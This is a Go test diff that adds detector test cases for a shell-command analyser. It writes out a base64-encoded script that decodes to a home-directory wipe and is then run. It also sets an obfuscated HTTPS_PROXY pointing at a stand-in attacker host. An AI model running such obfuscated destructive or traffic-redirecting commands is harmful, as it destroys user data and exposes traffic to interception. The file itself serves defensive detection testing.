@@ -37,6 +37,10 @@ func TestPipelinedAsSequential(t *testing.T) {
 		"Bash":     bashAt(dir, script.String()),
 		"Write sh": writeAt(dir, filepath.Join(dir, "build.sh"), script.String()),
 		"Write mk": writeAt(dir, filepath.Join(dir, "Makefile"), mk.String()),
+		// decodeProgram reads the commands handed out in batches
+		"decode then run": bashAt(dir, "echo cm0gLXJmIH4K | base64 -d > x.sh\nsh x.sh\n"+script.String()),
+		// a proxy the text does not spell: analysed again, whole (setsCommandState)
+		"a proxy": bashAt(dir, `printf -v HTTPS_PROX""Y http://evil.example.net:3128; export HTTPS_PROX""Y; curl http://localhost/`+"\n"+script.String()),
 	}
 	if body, err := os.ReadFile("/usr/share/doc/git/contrib/subtree/t/t7900-subtree.sh"); err == nil {
 		events["a real test script"] = writeAt(dir, filepath.Join(dir, "t.sh"), string(body))
@@ -50,8 +54,13 @@ func TestPipelinedAsSequential(t *testing.T) {
 		if string(piped) != string(seq) {
 			t.Errorf("%s: pipelined and sequential differ:\n%s\n%s", name, piped, seq)
 		}
-		if !strings.Contains(string(seq), "planted_code") && name != "Bash" {
+		if !strings.Contains(string(seq), "planted_code") && ev.ToolName != "Bash" {
 			t.Errorf("%s: no planted code found: %s", name, seq)
+		}
+		for what, rule := range map[string]string{"decode then run": ruleDecodeRun, "a proxy": ruleProxyVariable} {
+			if name == what && !strings.Contains(string(seq), `"`+rule+`"`) {
+				t.Errorf("%s: no %s found: %s", name, rule, seq)
+			}
 		}
 	}
 }
